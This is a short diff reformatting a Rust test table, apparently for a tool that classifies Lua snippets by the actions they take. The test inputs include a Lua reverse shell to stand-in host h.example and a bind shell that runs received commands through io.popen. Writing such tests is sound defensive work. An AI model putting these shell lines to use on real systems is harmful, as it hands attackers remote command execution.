@@ -29,10 +29,7 @@ fn running_files_and_connections() {
                 "local f=io.open('/tmp/x', 'wb'); f:write('DATA'); io.close(f);",
                 &["write /tmp/x <- DATA"],
             ),
-            (
-                "for l in io.lines('/etc/hosts') do print(l) end",
-                &["read /etc/hosts"],
-            ),
+            ("for l in io.lines('/etc/hosts') do print(l) end", &["read /etc/hosts"]),
             ("os.remove('/tmp/x')", &["delete /tmp/x"]),
             ("os.rename('a','b')", &["copy a -> b"]),
             ("package.loadlib('./x.so', 'f')", &["load ./x.so"]),
@@ -42,11 +39,7 @@ fn running_files_and_connections() {
             ),
             (
                 "require('socket');require('os');t=socket.tcp();t:connect('h.example','99');os.execute('/bin/sh -i <&3 >&3 2>&3');",
-                &[
-                    "connect h.example 99",
-                    "attach",
-                    "shell /bin/sh -i <&3 >&3 2>&3",
-                ],
+                &["connect h.example 99", "attach", "shell /bin/sh -i <&3 >&3 2>&3"],
             ),
             (
                 "local k=require('socket'); local s=assert(k.bind('*',99)); local c=s:accept(); while true do local r,x=c:receive(); local f=assert(io.popen(r,'r')) end",
